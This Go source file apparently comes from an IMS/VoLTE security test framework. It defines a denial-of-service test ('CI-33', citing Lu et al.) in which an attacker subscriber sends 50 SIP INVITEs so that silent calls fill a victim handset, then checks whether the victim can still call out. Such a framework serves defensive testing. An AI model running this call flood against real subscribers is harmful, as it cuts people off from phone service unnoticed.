package attack

import (
	"context"
	"errors"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// callGhost: calls that never ring fill a handset, which shows nothing of them.
func callGhost() Attack {
	return Attack{
		ID: "ci.call.ghost", Number: "CI-33", Title: "calls that are held before they ring",
		Text:     "a handset has room for a few calls; filled with silent ones it can place none, and its user sees nothing",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesUser,
		Source: "Lu et al., MobiCom 2020", Access: both(),
		Bounds:   Bounds{Packets: 120, Bytes: 120_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{{Position: Subscriber, Run: holdCalls, Controls: []secure.ControlID{secure.CIAvailabilityEarlyDialog}}},
	}
}

func holdCalls(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	f.Alice.Quiet()
	const times = 50
	for range times {
		invite := Request{Method: "INVITE", URI: f.Alice.IMPU, Lines: []string{"Contact: " + mallory.Contact()}}
		if err := mallory.Write(mallory.Text(invite)); err != nil {
			return err
		}
	}
	refused := 0
	for refused+len(f.Alice.calls) < times {
		err := within(ctx, soon/10, func(ctx context.Context) error {
			_, err := mallory.Await(ctx, func(m *sip.Message) bool { return !m.IsRequest() && m.Status() >= 300 })
			return err
		})
		switch {
		case err == nil:
			refused++
		case ctx.Err() != nil || errors.Is(err, ErrClosed):
			return err
		}
	}
	o.Arrived("alice's client holds %d silent calls of %d", len(f.Alice.calls), times)
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil && !errors.Is(err, ue.ErrBusy) {
		return err
	}
	if err != nil {
		o.Users = 1
		o.Peer(true, "%s, and alice cannot place a call", o.Delivered)
		return nil
	}
	o.Peer(false, "%s, and alice can place a call", o.Delivered)
	return attackOver(Part(ctx, out, in))
}
